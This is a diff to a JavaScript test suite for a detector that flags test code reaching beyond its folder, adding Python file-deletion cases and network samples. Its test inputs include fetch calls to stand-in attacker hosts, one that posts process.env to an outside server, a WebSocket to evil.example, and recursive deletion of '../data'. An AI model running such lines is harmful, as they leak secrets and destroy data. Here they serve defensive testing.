@@ -46,12 +46,30 @@ describe('tests that reach nothing', () => {
   });
 });
 
+describe('deleting in Python', () => {
+  const path = '/home/dev/app/tests/test_a.py';
+
+  it.each([["(tmp_path / 'a').unlink()"], ["f = tmp_path / 'a'\nf.unlink()"]])(
+    '%s stays in a folder of the test',
+    (text) => {
+      expect(reachOf(path, text)).toBeUndefined();
+    },
+  );
+
+  it.each([["Path('x').unlink()"], ["f = Path('x')\nf.unlink()"]])('%s does not', (text) => {
+    expect(reachOf(path, text)).toBe('deletes');
+  });
+});
+
 describe('what reaches beyond a test', () => {
   it.each([
     [test, "import { execSync } from 'child_process';", 'starts programs'],
     [test, "const { spawn } = require('node:child_process');", 'starts programs'],
     [test, "vi.mock('child_process');\nconst real = await vi.importActual('child_process');", 'starts programs'],
     [test, "await fetch('https://collect.evil.dev/x', { method: 'POST', body });", 'uses the network'],
+    [test, "await fetch('https://evil.example/x')", 'uses the network'],
+    [test, "await fetch('https://api.example.com', { body: JSON.stringify(process.env) })", 'uses the network'],
+    [test, "new WebSocket('wss://evil.example')", 'opens connections'],
     [test, "rmSync('../data', { recursive: true });", 'deletes'],
     [test, 'let dir = mkdtempSync(x); dir = process.cwd();\nrmSync(dir)', 'deletes'],
     [test, "readFileSync('/etc/hosts')", 'opens files outside the project'],
